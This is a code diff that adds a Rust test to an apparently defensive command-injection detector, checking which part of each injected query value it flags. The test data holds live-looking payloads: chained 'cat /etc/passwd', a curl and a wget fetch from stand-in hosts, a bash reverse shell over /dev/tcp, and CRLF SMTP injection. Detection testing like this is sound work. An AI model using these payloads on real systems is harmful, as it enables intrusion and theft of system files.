@@ -345,3 +345,45 @@ fn unclosed_quotes_end_the_scan() {
         }
     }
 }
+
+/// The finding shows the separator, the command and its arguments: not the
+/// legitimate value before them.
+#[test]
+fn matched_is_the_command_only() {
+    let m = |v: &str| crate::detect::testing::matched(check, Part::QueryArg, Some("q"), v);
+    for (v, rule, want) in [
+        ("example.com; cat /etc/passwd", CHAINED, "; cat /etc/passwd"),
+        ("127.0.0.1 && whoami", CHAINED, "&& whoami"),
+        (
+            "name $(curl http://x.test/a.sh)",
+            CHAINED,
+            "$(curl http://x.test/a.sh",
+        ),
+        ("a.pdf;c'a't /etc/hosts", OBFUSCATED, ";c'a't /etc/hosts"),
+        ("a.pdf; cat /e??/p?sswd", WILDCARD_PATH, "/e??/p?sswd"),
+        (
+            "x; bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+            REVERSE_SHELL,
+            "/dev/tcp/10.0.0.1/4242",
+        ),
+        ("cat /etc/passwd", COMMAND_LINE, "cat /etc/passwd"),
+        (
+            "a\nwget http://evil.example/x.sh",
+            COMMAND_LINE,
+            "wget http://evil.example/x.sh",
+        ),
+        (
+            "a.txt\r\nMAIL FROM:<a@b.com>",
+            MAIL_COMMAND,
+            "MAIL FROM:<a@b.com>",
+        ),
+    ] {
+        let got = m(v);
+        let text = got
+            .iter()
+            .find(|(r, _)| *r == rule)
+            .map(|(_, t)| t.as_str())
+            .unwrap_or_else(|| panic!("{rule} not reported for {v:?}: {got:?}"));
+        assert_eq!(text, want, "{rule} in {v:?}");
+    }
+}
